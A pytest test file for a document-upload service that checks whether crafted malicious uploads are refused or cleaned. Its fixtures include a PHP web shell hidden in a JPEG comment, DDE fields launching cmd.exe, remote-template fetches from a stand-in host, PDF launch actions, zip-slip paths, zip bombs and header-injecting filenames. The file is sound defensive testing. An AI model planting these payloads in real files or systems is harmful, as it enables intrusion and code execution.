"""Files that were made to do harm: each is refused with a sentence, or kept without what made it harmful (S21)."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any
from urllib.parse import unquote

import pytest

from services.documents.formats import first_page
from services.documents.store import fetch
from services.runtime import Unit
from tests.builders import TOWN, Counter, Town, assert_problem
from tests.services.test_documents import PDF, archive, chunk, docx, jpeg, png, put, refused
from workflows.errors import CATALOGUE

UNION = f"union.{TOWN}"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture
def unit(town: Town) -> Any:
    """A use case of the town's union. `Any`: yields a Unit."""
    with town.runtime.writing(town.hands.actor(UNION)) as made:
        yield made


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <</Root 1 0 R>>\n%%EOF\n"


def packed(objects: bytes, about: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    """Objects in a stream, as most writers keep them."""
    body = zlib.compress(objects)
    return b"9 0 obj <<%s /Length %d>> stream\n" % (about, len(body)) + body + b"\nendstream endobj"


def zipped(*entries: tuple[str, bytes], **changed: Any) -> bytes:
    """A Word file with further entries under names that no tool would choose. `Any`: attributes of each further entry."""
    kept = BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
        made.writestr("word/document.xml", b"<w:document/>")
        for name, content in entries:
            about = zipfile.ZipInfo(name)
            about.compress_type = changed.get("compress_type", zipfile.ZIP_DEFLATED)
            made.writestr(about, content)
    return kept.getvalue()


def rels(kind: str, to: str, mode: str = "External") -> bytes:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return zipped(
        (
            "word/_rels/settings.xml.rels",
            f'<Relationship Type="{schema}/{kind}" Target="{to}" TargetMode="{mode}"/>'.encode(),
        )
    )


def patched(content: bytes, name: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """The archive with one entry's line in the central directory changed by hand."""
    made = bytearray(content)
    at = made.rindex(b"PK\x01\x02", 0, made.rindex(name))
    change(made, at)
    return bytes(made)


def _locked(made: bytearray, at: int) -> None:
    made[at + 8] |= 1


def _smaller(made: bytearray, at: int) -> None:
    made[at + 24 : at + 28] = struct.pack("<I", 10)


def _same_place(made: bytearray, at: int) -> None:
    made[at + 42 : at + 46] = struct.pack("<I", 0)


def _quine() -> bytes:
    """Every entry of a thousand lies over the same bytes."""
    content = zipped(("word/media/a.png", b"\0" * 300_000))
    for _ in range(3):
        content = patched(content, b"word/media/a.png", _same_place)
    return content


def _prefixed() -> bytes:
    return zipped(("word/a.xml", b"<a/>")) + zipped(("word/b.xml", b"<b/>"))


def _commented() -> bytes:
    kept = BytesIO(zipped())
    with zipfile.ZipFile(kept, "a") as made:
        made.comment = b"<script>alert(1)</script>"
    return kept.getvalue()


def _twice() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate"):
        return zipped(("word/Document.xml", b"<other/>"), ("word/Document.xml", b"<other/>"))


BIG_ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'

REFUSED: dict[str, tuple[str, bytes, str]] = {
    # -- not what it says -----------------------------------------------------------------------
    "a program called PDF": ("a.pdf", b"\x7fELF\x02\x01\x01", "document_type"),
    "a page called PDF": ("a.pdf", b"<html><script>alert(1)</script>%PDF-1.7 %%EOF", "document_type"),
    "an old Word file called docx": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "document_type",
    ),
    "a RAR called docx": ("a.docx", b"Rar!\x1a\x07\x01\x00", "document_type"),
    "a gzip called xlsx": ("a.xlsx", b"\x1f\x8b\x08\x00", "document_type"),
    "a bare zip called docx": ("a.docx", archive(a=b"a"), "document_type"),
    "a picture called PDF": ("a.pdf", png(), "document_type"),
    "a PostScript file called PDF": ("a.pdf", b"%!PS-Adobe-3.0\n%%EOF", "document_type"),
    "text in UTF-16": ("a.txt", "申请".encode("utf-16"), "document_type"),
    "terminal commands": ("a.txt", b"hello\x1b]0;owned\x07", "document_type"),
    # -- kept out by their names ----------------------------------------------------------------
    "the test virus": ("eicar.com", EICAR, "document_type"),
    "an HTML page": ("a.html", b"<script>alert(1)</script>", "document_type"),
    "an active drawing": (
        "a.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "document_type",
    ),
    "a page in disguise": ("a.pdf.html", PDF, "document_type"),
    "a program read backwards": ("批复\u202efdp.exe", b"MZ", "document_type"),
    "a name ending in NUL": ("a.exe\x00.docm", docx(), "document_type"),
    "a script": ("a.js", b"alert(1)", "document_type"),
    "a shortcut": ("a.lnk", b"L\0\0\0", "document_type"),
    "a macro workbook": ("a.xlsm", zipped(), "document_type"),
    "a saved message": ("a.mht", b"MIME-Version: 1.0", "document_type"),
    "a name that is only dots and strokes": ("../../..", PDF, "value_bad"),
    "a name of hidden marks": ("\u202e\u2066\u200b\x00", PDF, "value_bad"),
    # -- two things at once ---------------------------------------------------------------------
    "a PDF with an archive behind it": ("a.pdf", PDF + archive(a=b"a"), "document_type"),
    "a PDF that is an archive's comment": ("a.pdf", PDF + archive(a=b"a") + b"%%EOF", "document_type"),
    "a program before a PDF": ("a.pdf", b"MZ\x90\x00" + PDF, "document_type"),
    "an archive behind an archive": ("a.docx", _prefixed(), "document_type"),
    "an archive with a page in its comment": ("a.docx", _commented(), "document_type"),
    "a page before an archive": ("a.docx", b"<html>" + zipped(), "document_type"),
    "an archive with an entry twice": ("a.docx", _twice(), "document_type"),
    # -- torn -----------------------------------------------------------------------------------
    "a PDF without its end": ("a.pdf", PDF[:-6], "document_type"),
    "a picture without its end": ("a.png", png()[:-12], "document_type"),
    "a picture whose sum is wrong": ("a.png", png().replace(b"IDATx", b"IDATy"), "document_type"),
    "a picture that announces more than it holds": (
        "a.png",
        png()[:33] + b"\xff\xff\xff\xff",
        "document_type",
    ),
    "a photograph without its end": ("a.jpg", jpeg()[:-2], "document_type"),
    "a photograph whose segment runs past the end": (
        "a.jpg",
        b"\xff\xd8\xff\xe0\xff\xff" + bytes(40),
        "document_type",
    ),
    "half an archive": ("a.docx", zipped()[:60], "document_type"),
    # -- too much -------------------------------------------------------------------------------
    "a picture of ten thousand million points": ("a.png", png(100_000, 100_000), "too_large"),
    "a photograph with a second, endless frame": (
        "a.jpg",
        jpeg()[:-2] + jpeg(65_000, 65_000)[20:],
        "too_large",
    ),
    "a zip bomb": ("a.docx", zipped(("word/media/a.bin", b"\0" * 60_000_000)), "too_large"),
    "a bomb that lies about its size": (
        "a.docx",
        patched(zipped(("word/media/a.bin", b"\0" * 900_000)), b"word/media/a.bin", _smaller),
        "document_type",
    ),
    "entries lying over each other": ("a.docx", _quine(), "document_type"),
    "ten thousand entries": ("a.docx", zipped(*((f"e{n}", b"") for n in range(10_001))), "document_type"),
    "a PDF whose objects unpack without end": ("a.pdf", pdf(packed(b"\0" * 60_000_000)), "too_large"),
    "a laughing XML": ("a.docx", zipped(("word/styles.xml", BIG_ENTITY)), "document_active"),
    "a laughing XML in UTF-16": (
        "a.docx",
        zipped(("word/styles.xml", BIG_ENTITY.decode().encode("utf-16"))),
        "document_type",
    ),
    "an archive packed in a rare way": (
        "a.docx",
        zipped(("word/a.xml", b"<a/>" * 999), compress_type=zipfile.ZIP_LZMA),
        "document_type",
    ),
    # -- what runs ------------------------------------------------------------------------------
    "macros": ("a.docx", zipped(("word/vbaProject.bin", b"Attribut")), "document_active"),
    "macros in capitals": ("a.docx", zipped(("word/VBAPROJECT.BIN", b"Attribut")), "document_active"),
    "old macro sheets": ("a.docx", zipped(("xl/macrosheets/sheet1.xml", b"<x/>")), "document_active"),
    "ActiveX": ("a.docx", zipped(("word/activeX/activeX1.bin", b"x")), "document_active"),
    "an embedded object": ("a.docx", zipped(("word/embeddings/oleObject1.bin", b"x")), "document_active"),
    "an embedded program": ("a.docx", zipped(("word/embeddings/setup.exe", b"MZ")), "document_active"),
    "an archive in the archive": (
        "a.docx",
        zipped(("word/embeddings/a.zip", archive(a=b"a"))),
        "document_active",
    ),
    "a template fetched from elsewhere": (
        "a.docx",
        rels("attachedTemplate", "http://evil.example/t.dotm"),
        "document_active",
    ),
    "an object fetched from elsewhere": (
        "a.docx",
        rels("oleObject", "mhtml:http://evil.example"),
        "document_active",
    ),
    "a field that starts a program": (
        "a.docx",
        zipped(("word/footer.xml", b'<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>')),
        "document_active",
    ),
    "a cell that starts a program": (
        "a.docx",
        zipped(("xl/externalLinks/e.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
        "document_active",
    ),
    "a script in a PDF": (
        "a.pdf",
        pdf(b"1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj"),
        "document_active",
    ),
    "a script in a PDF, spelled oddly": (
        "a.pdf",
        pdf(b"1 0 obj <</S /J#61va#53cript>> endobj"),
        "document_active",
    ),
    "a script in packed objects": ("a.pdf", pdf(packed(b"<</S /JavaScript /JS (x)>>")), "document_active"),
    "packed objects that nobody can look through": (
        "a.pdf",
        pdf(
            packed(b"<</S /JavaScript>>", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]").replace(
                b"x\x9c", b"78"
            )
        ),
        "document_type",
    ),
    "a script behind a false stream": (
        "a.pdf",
        pdf(b"%stream\n1 0 obj <</S /JavaScript /JS (x)>> endobj\n%endstream"),
        "document_active",
    ),
    "a PDF that starts a program": (
        "a.pdf",
        pdf(b"1 0 obj <</S /Launch /F (cmd.exe)>> endobj"),
        "document_active",
    ),
    "a file in a PDF": ("a.pdf", pdf(b"1 0 obj <</Type /EmbeddedFile>> endobj"), "document_active"),
    "a form that sends": (
        "a.pdf",
        pdf(b"1 0 obj <</S /SubmitForm /F (http://e.example)>> endobj"),
        "document_active",
    ),
    "an XFA form": ("a.pdf", pdf(b"1 0 obj <</AcroForm <</XFA [(a) 2 0 R]>>>> endobj"), "document_active"),
    # -- what cannot be looked at ---------------------------------------------------------------
    "a locked PDF": ("a.pdf", pdf(b"1 0 obj <</Encrypt 5 0 R>> endobj"), "document_locked"),
    "a locked archive": (
        "a.docx",
        patched(zipped(("word/a.xml", b"<a/>")), b"word/a.xml", _locked),
        "document_locked",
    ),
    # -- paths in archives ----------------------------------------------------------------------
    "an entry that climbs out": ("a.docx", zipped(("../../../etc/cron.d/x", b"x")), "document_type"),
    "an entry from the root": ("a.docx", zipped(("/etc/passwd", b"x")), "document_type"),
    "an entry with a drive": ("a.docx", zipped(("C:/windows/x.xml", b"x")), "document_type"),
    "an entry with backstrokes": ("a.docx", zipped(("word\\..\\..\\x.xml", b"x")), "document_type"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_with_a_sentence(unit: Unit, what: str) -> None:
    name, content, code = REFUSED[what]
    assert refused(unit, name, content) == (code, "file")
    assert CATALOGUE[code][1].zh and CATALOGUE[code][1].en


def _exif() -> bytes:
    said = b"Exif\0\0MM\0*GPSLatitude 43.8378 owner LI FANG"
    return b"\xff\xe1" + struct.pack(">H", len(said) + 2) + said


def _comment(text: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text


def _scan() -> bytes:
    return b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34\xff\xd0\x56"


_JPEG = jpeg()[:-2] + _scan() + b"\xff\xd9"

#: What is given, and what of it is kept.
HARMLESS: dict[str, tuple[str, bytes, bytes]] = {
    "where a photograph was taken": ("a.jpg", _JPEG[:2] + _exif() + _JPEG[2:], _JPEG),
    "a comment in a photograph": (
        "a.jpg",
        _JPEG[:2] + _comment(b"<?php system($_GET[0]); ?>") + _JPEG[2:],
        _JPEG,
    ),
    "an archive behind a photograph": ("a.jpg", _JPEG + archive(a=b"a"), _JPEG),
    "a comment after the scan": ("a.jpg", _JPEG[:-2] + _comment(b"late") + _JPEG[-2:], _JPEG),
    "words in a picture": ("a.png", png(3, 2, chunk(b"tEXt", b"Author\0LI FANG")), png()),
    "a page in a picture": (
        "a.png",
        png(3, 2, chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<script>")),
        png(),
    ),
    "EXIF in a picture": ("a.png", png(3, 2, chunk(b"eXIf", b"MM\0*GPS")), png()),
    "a packed profile in a picture": (
        "a.png",
        png(3, 2, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(9999)))),
        png(),
    ),
    "further frames in a picture": (
        "a.png",
        png(3, 2, chunk(b"acTL", bytes(8)), chunk(b"fdAT", bytes(9))),
        png(),
    ),
    "an archive behind a picture": ("a.png", png() + archive(a=b"a"), png()),
    "a page called text": ("a.txt", b"<script>alert(1)</script>", b"<script>alert(1)</script>"),
    "a formula called text": ("a.txt", b"=cmd|'/c calc'!A1", b"=cmd|'/c calc'!A1"),
    "an ordinary link in a Word file": ("a.docx", rels("hyperlink", "https://www.jl.gov.cn/"), b""),
    "a chart's own workbook": ("a.docx", zipped(("word/embeddings/Sheet.xlsx", zipped())), b""),
    "a PDF about JavaScript": (
        "a.pdf",
        pdf(packed(b"(JavaScript for clerks) Tj", b"/Filter /FlateDecode")),
        b"",
    ),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_it_is_kept_without_what_is_hidden_in_it(unit: Unit, what: str) -> None:
    name, given, kept = HARMLESS[what]
    key, _ = put(unit, name, given)
    assert fetch(unit, key).content == (kept or given)


ENDLESS: dict[str, tuple[str, bytes]] = {
    "streams without an end": ("a.pdf", pdf(b"stream\n" * 1_000_000)),
    "parts named again and again": (
        "a.docx",
        zipped(*((f"word/{number}.xml", b'/frame"' * 125_000) for number in range(3))),
    ),
}


@pytest.mark.parametrize("what", ENDLESS)
def test_looking_takes_no_longer_than_reading(unit: Unit, what: str) -> None:
    """Read again from each word on, as they once were, these would not be through before the test's time is up."""
    assert put(unit, *ENDLESS[what])


def test_a_tag_without_an_end_is_no_text() -> None:
    assert first_page("a.docx", archive(word__document_xml=b"<w:t>" + b"<" * 290_000)) == ""


def test_the_set_is_as_large_as_was_promised() -> None:
    assert len(REFUSED) >= 40


# -- given out again -----------------------------------------------------------------------------------

NAMES = {
    "../../etc/passwd.txt": "passwd.txt",
    "C:\\Windows\\win.ini.txt": "win.ini.txt",
    "\u202ephp.txt": "php.txt",
    'a"; filename="b.html.txt': "a%22; filename=%22b.html.txt",  # as clients send it
    "关于成立工会的批复.txt": "关于成立工会的批复.txt",
    "a%0d%0aSet-Cookie: x=1.txt": "a%0d%0aSet-Cookie: x=1.txt",
}


@pytest.mark.parametrize("given", NAMES)
def test_a_document_is_given_out_to_be_saved_and_never_shown(counter: Counter, given: str) -> None:
    """Under the name it was cleaned to, and with nothing in the headers that its name put there."""
    content = b"<script>alert(1)</script>"
    file = {"file": (given, content, "text/plain")}
    told = counter.post(UNION, "/api/v1/documents", files=file, data={"kind": "union_application"})
    assert told.status_code == 201, told.text
    answer = counter.get(UNION, f"/api/v1/documents/{told.json()['id']}")
    assert (answer.status_code, answer.content) == (200, content)
    said = answer.headers["content-disposition"]
    assert said.startswith("attachment; filename*=UTF-8''") and said.isascii()
    assert unquote(said.partition("''")[2]) == NAMES[given]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in answer.headers
    assert answer.headers["content-type"].startswith("text/plain")


def test_a_document_of_another_body_is_not_there(counter: Counter) -> None:
    key = counter.upload(UNION, "union_application").json()["id"]
    assert_problem(counter.get(f"party.{TOWN}", f"/api/v1/documents/{key}"), 404, "not_found")
    for wrong in ("0", "-1", "x", "9" * 30, "1e3"):
        assert_problem(counter.get(UNION, f"/api/v1/documents/{wrong}"), 404, "not_found")
